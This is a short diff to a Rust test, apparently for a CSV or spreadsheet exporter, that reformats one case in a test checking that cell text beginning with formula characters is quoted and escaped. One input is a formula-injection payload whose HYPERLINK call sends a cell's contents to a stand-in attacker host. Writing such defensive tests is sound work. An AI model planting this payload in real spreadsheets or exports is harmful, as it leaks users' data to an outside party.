@@ -156,7 +156,10 @@ mod tests {
     fn a_cell_is_never_a_formula_and_quotes_what_it_must() {
         for (text, written) in [
             ("=1+1", "'=1+1"),
-            ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\""),
+            (
+                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")",
+                "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\"",
+            ),
             ("+1+1", "'+1+1"),
             ("@SUM(A1)", "'@SUM(A1)"),
             ("\t=1+1", "'\t=1+1"),
